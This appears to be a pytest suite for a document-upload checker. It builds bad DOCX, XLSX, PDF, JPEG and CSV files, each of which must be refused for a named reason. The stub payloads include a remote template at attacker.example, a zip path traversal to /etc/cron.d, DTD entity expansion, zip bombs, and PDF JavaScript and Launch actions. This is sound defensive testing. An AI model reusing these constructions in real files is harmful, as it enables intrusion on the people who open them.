"""The file checks, on files built here: each bad kind is refused with its own reason.

These run without the live system; `test_upload_refusals.py` sends the same files through the
API and proves that nothing of them is stored.
"""

from __future__ import annotations

import io
import struct
import zipfile

import pytest

from common.errors import Invalid, UnsupportedMediaType
from services.evidence import checks
from services.evidence.checks import Limits
from tests.evidence import samples
from tests.evidence.samples import OFFICE_REL, RELS

TEMPLATE_REL = f"{OFFICE_REL}/attachedTemplate"


def reason_for(data: bytes, filename: str, limits: Limits | None = None) -> str:
    with pytest.raises(Invalid) as refused:
        checks.inspect(io.BytesIO(data), filename, limits)
    assert refused.value.status == 422 and refused.value.errors["file"]
    return refused.value.extra["reason"]


def rels(*relationships: str) -> bytes:
    return (
        f'<?xml version="1.0"?><Relationships xmlns="{RELS}">'
        + "".join(relationships)
        + "</Relationships>"
    ).encode()


def with_rel(document_rels: bytes, relationship: str) -> bytes:
    return document_rels.replace(b"</Relationships>", relationship.encode() + b"</Relationships>")


# Bad files, one builder each; the API test sends the same ones.


def macro_docx() -> bytes:
    docx = samples.add_content_type(
        samples.docx_file(),
        '<Override PartName="/word/vbaProject.bin" '
        'ContentType="application/vnd.ms-office.vbaProject"/>',
    )
    return samples.rezip(docx, {"word/vbaProject.bin": b"\xd0\xcf\x11\xe0 not really vba"})


def macro_enabled_xlsx() -> bytes:
    xlsx = samples.xlsx_file()
    types = (
        samples.parts_of(xlsx)["[Content_Types].xml"]
        .replace(b"spreadsheetml.sheet.main+xml", b"spreadsheetml.sheet.macroEnabled.main+xml")
        .replace(b"officedocument.spreadsheetml.sheet.macroEnabled", b"ms-excel.sheet.macroEnabled")
    )
    return samples.rezip(xlsx, {"[Content_Types].xml": types})


def remote_template_docx() -> bytes:
    rel = (
        f'<Relationship Id="rId9" Type="{TEMPLATE_REL}" '
        'Target="http://attacker.example/t.dotm" TargetMode="External"/>'
    )
    return samples.rezip(samples.docx_file(), {"word/_rels/settings.xml.rels": rels(rel)})


def external_ole_docx() -> bytes:
    rel = (
        f'<Relationship Id="rId8" Type="{OFFICE_REL}/oleObject" '
        'Target="file://server/share/payload.xls" TargetMode="External"/>'
    )
    document_rels = samples.parts_of(samples.docx_file())["word/_rels/document.xml.rels"]
    return samples.rezip(
        samples.docx_file(),
        {"word/_rels/document.xml.rels": with_rel(document_rels, rel)},
    )


def dtd_docx() -> bytes:
    document = samples.parts_of(samples.docx_file())["word/document.xml"]
    bomb = (
        b'<?xml version="1.0"?><!DOCTYPE w [<!ENTITY a "aaaaaaaaaa">'
        b'<!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>'
    )
    return samples.rezip(
        samples.docx_file(), {"word/document.xml": bomb + document.split(b"?>", 1)[1]}
    )


def zip_bomb_docx() -> bytes:
    return samples.rezip(
        samples.docx_file(), {"word/media/image1.png": b"\x00" * (3 * 1024 * 1024)}
    )


def traversal_docx() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for name, body in samples.parts_of(samples.docx_file()).items():
            archive.writestr(name, body)
        archive.writestr("../../etc/cron.d/evil", b"* * * * * root true")
    return out.getvalue()


def javascript_pdf() -> bytes:
    return samples.pdf_file(b"<< /Type /Action /S /JavaScript /JS (app.alert('x')) >>")


def hidden_javascript_pdf() -> bytes:
    # Escaped names, inside a compressed object stream: only inflating and decoding finds it.
    inner = b"4 0 << /S /J#61vaScript /J#53 (app.launchURL('http://x')) >>"
    return samples.pdf_file(samples.flate_stream(b"<< /Type /ObjStm /N 1 /First 4 >>", inner))


def launch_pdf() -> bytes:
    return samples.pdf_file(b"<< /Type /Action /S /Launch /F (cmd.exe) >>")


def exe_named_pdf() -> bytes:
    return b"MZ\x90\x00" + b"\x00" * 200


BAD_FILES = {
    "macros": (macro_docx, "รายงาน.docx", 422, "macros"),
    "macro-enabled": (macro_enabled_xlsx, "ผลงาน.xlsx", 422, "macros"),
    "remote-template": (remote_template_docx, "แบบฟอร์ม.docx", 422, "external-reference"),
    "external-ole": (external_ole_docx, "a.docx", 422, "external-reference"),
    "dtd": (dtd_docx, "a.docx", 422, "dtd"),
    "zip-bomb": (zip_bomb_docx, "a.docx", 422, "zip-bomb"),
    "path": (traversal_docx, "a.docx", 422, "path"),
    "javascript": (javascript_pdf, "หลักฐาน.pdf", 422, "javascript"),
    "hidden-javascript": (hidden_javascript_pdf, "a.pdf", 422, "javascript"),
    "launch": (launch_pdf, "a.pdf", 422, "launch"),
    "type-mismatch": (exe_named_pdf, "a.pdf", 422, "type-mismatch"),
    "not-allowed": (samples.docx_file, "a.docm", 415, "type-not-allowed"),
    "executable": (exe_named_pdf, "setup.exe", 415, "type-not-allowed"),
}


@pytest.mark.parametrize(
    ("data", "filename", "kind"),
    [
        (samples.docx_file, "รายงาน.docx", "docx"),
        (samples.xlsx_file, "ผลงาน.XLSX", "xlsx"),
        (samples.pdf_file, "หลักฐาน.pdf", "pdf"),
        (samples.png_file, "ภาพ.png", "png"),
        (samples.jpeg_file, "ภาพ.jpg", "jpeg"),
        (samples.jpeg_file, "ภาพ.jpeg", "jpeg"),
    ],
)
def test_genuine_files_of_each_allowed_type_pass(data, filename, kind):
    assert checks.inspect(io.BytesIO(data()), filename).kind == kind


def test_a_docx_with_a_vba_project_is_refused_as_macros():
    assert reason_for(macro_docx(), "a.docx") == "macros"


def test_a_macro_enabled_workbook_renamed_xlsx_is_refused_as_macros():
    assert reason_for(macro_enabled_xlsx(), "a.xlsx") == "macros"


def test_an_embedded_old_word_document_holding_a_vba_project_is_refused():
    ole = samples.ole_with_vba_project()
    docx = samples.rezip(samples.docx_file(), {"word/embeddings/oleObject1.bin": ole})
    assert reason_for(docx, "a.docx") == "macros"


def test_an_embedded_ole_object_without_vba_is_allowed():
    ole = samples.ole_with_vba_project().replace(
        "PROJECT".encode("utf-16-le"), "NOTHING".encode("utf-16-le")
    )
    docx = samples.rezip(samples.docx_file(), {"word/embeddings/oleObject1.bin": ole})
    assert checks.inspect(io.BytesIO(docx), "a.docx").kind == "docx"


def test_a_remote_template_in_settings_rels_is_refused():
    assert reason_for(remote_template_docx(), "a.docx") == "external-reference"


def test_an_external_ole_link_is_refused():
    assert reason_for(external_ole_docx(), "a.docx") == "external-reference"


def test_a_web_hyperlink_is_allowed_because_it_is_only_followed_when_clicked():
    link = (
        f'<Relationship Id="rId7" Type="{OFFICE_REL}/hyperlink" '
        'Target="https://www.prd.go.th/" TargetMode="External"/>'
    )
    document_rels = samples.parts_of(samples.docx_file())["word/_rels/document.xml.rels"]
    docx = samples.rezip(
        samples.docx_file(),
        {"word/_rels/document.xml.rels": with_rel(document_rels, link)},
    )
    assert checks.inspect(io.BytesIO(docx), "a.docx").kind == "docx"


def test_a_hyperlink_to_a_file_share_is_refused():
    link = (
        f'<Relationship Id="rId7" Type="{OFFICE_REL}/hyperlink" '
        'Target="file://server/share/x" TargetMode="External"/>'
    )
    docx = samples.rezip(samples.docx_file(), {"word/_rels/document.xml.rels": rels(link)})
    assert reason_for(docx, "a.docx") == "external-reference"


def test_a_dtd_with_entities_in_a_part_is_refused():
    assert reason_for(dtd_docx(), "a.docx") == "dtd"


def test_a_part_that_unpacks_far_beyond_its_size_is_refused_as_a_zip_bomb():
    assert reason_for(zip_bomb_docx(), "a.docx") == "zip-bomb"


def test_a_package_that_unpacks_past_the_total_limit_is_refused():
    limits = Limits(max_uncompressed=10_000)
    assert reason_for(samples.docx_file(), "a.docx", limits) == "zip-bomb"


def test_a_package_with_too_many_parts_is_refused():
    assert reason_for(samples.docx_file(), "a.docx", Limits(max_entries=3)) == "zip-bomb"


def test_a_part_named_with_dot_dot_is_refused():
    assert reason_for(traversal_docx(), "a.docx") == "path"


@pytest.mark.parametrize("name", ["/etc/passwd", "word\\..\\x.xml", "C:/x.xml", "word/\u202ex.xml"])
def test_absolute_backslash_drive_and_bidi_part_names_are_refused(name):
    docx = samples.zip_of({**samples.parts_of(samples.docx_file()), name: b"x"})
    assert reason_for(docx, "a.docx") == "path"


def test_a_part_stored_twice_is_refused():
    parts = samples.parts_of(samples.docx_file())
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for name, body in parts.items():
            archive.writestr(name, body)
        with pytest.warns(UserWarning):
            archive.writestr("word/document.xml", b"<other/>")
    assert reason_for(out.getvalue(), "a.docx") == "path"


def test_a_workbook_named_docx_is_a_type_mismatch():
    assert reason_for(samples.xlsx_file(), "a.docx") == "type-mismatch"


def test_a_plain_zip_named_docx_is_a_type_mismatch():
    assert reason_for(samples.zip_of({"a.txt": b"hello"}), "a.docx") == "type-mismatch"


def test_a_png_named_jpg_is_a_type_mismatch():
    assert reason_for(samples.png_file(), "a.jpg") == "type-mismatch"


def test_an_executable_named_pdf_is_a_type_mismatch():
    assert reason_for(exe_named_pdf(), "a.pdf") == "type-mismatch"


def test_a_pdf_with_javascript_is_refused():
    assert reason_for(javascript_pdf(), "a.pdf") == "javascript"


def test_a_pdf_open_action_running_javascript_is_refused():
    pdf = samples.pdf_file(b"<< /OpenAction << /S /JavaScript /JS (this.print()) >> >>")
    assert reason_for(pdf, "a.pdf") == "javascript"


def test_javascript_hidden_in_a_compressed_object_stream_with_escaped_names_is_refused():
    assert reason_for(hidden_javascript_pdf(), "a.pdf") == "javascript"


def test_a_pdf_with_a_launch_action_is_refused():
    assert reason_for(launch_pdf(), "a.pdf") == "launch"


def test_a_pdf_name_that_merely_starts_like_js_is_allowed():
    pdf = samples.pdf_file(b"<< /JSON (not javascript) /JScript 1 >>")
    assert checks.inspect(io.BytesIO(pdf), "a.pdf").kind == "pdf"


def image(data: bytes, length: bytes | None = None) -> bytes:
    length = length or b"%d" % len(data)
    return (
        b"<< /Type /XObject /Subtype /Image /Length "
        + length
        + b" >>\nstream\n"
        + data
        + b"\nendstream"
    )


def test_image_data_that_happens_to_spell_js_is_not_javascript():
    # Compressed image bytes are noise: "/JS " turns up in them by chance.
    assert (
        checks.inspect(io.BytesIO(samples.pdf_file(image(b"\x8f/JS (\x01"))), "a.pdf").kind == "pdf"
    )


def test_stream_data_with_an_indirect_length_is_skipped_up_to_endstream():
    pdf = samples.pdf_file(image(b"\x8f/JS (\x01", length=b"9 0 R"), b"12")
    assert checks.inspect(io.BytesIO(pdf), "a.pdf").kind == "pdf"


def test_a_stream_keyword_faked_inside_a_string_does_not_hide_what_follows():
    fake = b"<< /Length 20 /Foo (>>stream\n) /S /JavaScript /JS (app.alert(1)) %endstream\n>>"
    assert reason_for(samples.pdf_file(fake), "a.pdf") == "javascript"


def test_a_stream_keyword_faked_in_a_comment_does_not_hide_what_follows():
    fake = b"<< /Foo 1 %>>stream\n /S /JavaScript /JS (x) >>"
    assert reason_for(samples.pdf_file(fake, b"(endstream)"), "a.pdf") == "javascript"


def test_a_stream_that_never_ends_is_read_as_text():
    never = b"<< /Length 999999 >>\nstream\n /S /Launch /F (cmd.exe)"
    assert reason_for(samples.pdf_file(never), "a.pdf") == "launch"


def test_an_object_stream_that_inflates_past_the_bound_is_refused():
    inner = b"4 0 << /Type /Font >>" + b" " * 200_000
    pdf = samples.pdf_file(samples.flate_stream(b"<< /Type /ObjStm /N 1 /First 4 >>", inner))
    assert reason_for(pdf, "a.pdf", Limits(max_inflated_pdf_objects=100_000)) == "zip-bomb"


def jpeg_with(*segments: bytes, scan: bytes = b"\x00") -> bytes:
    """SOI, the given segments, a scan header, `scan` as its coded data, and EOI."""
    sos = b"\xff\xda" + struct.pack(">H", 8) + b"\x01\x01\x00\x00\x3f\x00"
    return b"\xff\xd8" + b"".join(segments) + sos + scan + b"\xff\xd9"


def segment(marker: int, data: bytes) -> bytes:
    return bytes([0xFF, marker]) + struct.pack(">H", len(data) + 2) + data


def test_a_jpeg_whose_exif_thumbnail_has_its_own_end_marker_passes():
    thumbnail = samples.jpeg_file()  # ends in FF D9 inside the APP1 segment
    jpeg = jpeg_with(segment(0xE1, b"Exif\x00\x00" + thumbnail), scan=b"\x12\xff\x00\x34")
    assert checks.inspect(io.BytesIO(jpeg), "a.jpg").kind == "jpeg"


def test_a_jpeg_scan_with_stuffed_bytes_and_restart_markers_passes():
    jpeg = jpeg_with(segment(0xE0, b"JFIF\x00"), scan=b"\xff\x00\xff\xd0\x01\xff\xff\xd1\x02")
    assert checks.inspect(io.BytesIO(jpeg), "a.jpg").kind == "jpeg"


def test_a_jpeg_followed_by_whole_images_of_its_own_passes():
    # A multi-picture file (previews, an Ultra HDR photo's gain map): JPEGs after the first.
    assert checks.inspect(io.BytesIO(samples.jpeg_file() * 3), "a.jpg").kind == "jpeg"


def test_a_jpeg_followed_by_an_image_and_then_a_zip_is_refused():
    data = samples.jpeg_file() * 2 + samples.zip_of({"vbaProject.bin": b"vba"})
    assert reason_for(data, "a.jpg") == "appended-data"


def test_a_png_cut_short_is_damaged():
    assert reason_for(samples.png_file()[:-6], "a.png") == "damaged"


def test_a_pdf_without_an_end_marker_is_damaged():
    assert reason_for(samples.pdf_file().replace(b"%%EOF", b"%%EOX"), "a.pdf") == "damaged"


def test_a_formula_cell_is_named_by_the_line_it_starts_on_and_its_column():
    csv = b'unit,note,value\nR1,"two\nlines",1\nR2,ok,"=1+1"\n'
    with pytest.raises(Invalid) as refused:
        checks.inspect(io.BytesIO(csv), "a.csv")
    assert refused.value.errors["file"][0].startswith("Line 4, column C (value) begins with")


@pytest.mark.parametrize("filename", ["a.docm", "a.xlsm", "a.dotm", "a.exe", "a.html", "noext"])
def test_names_outside_the_allow_list_are_415(filename):
    with pytest.raises(UnsupportedMediaType) as refused:
        checks.inspect(io.BytesIO(samples.docx_file()), filename)
    assert refused.value.extra["reason"] == "type-not-allowed"
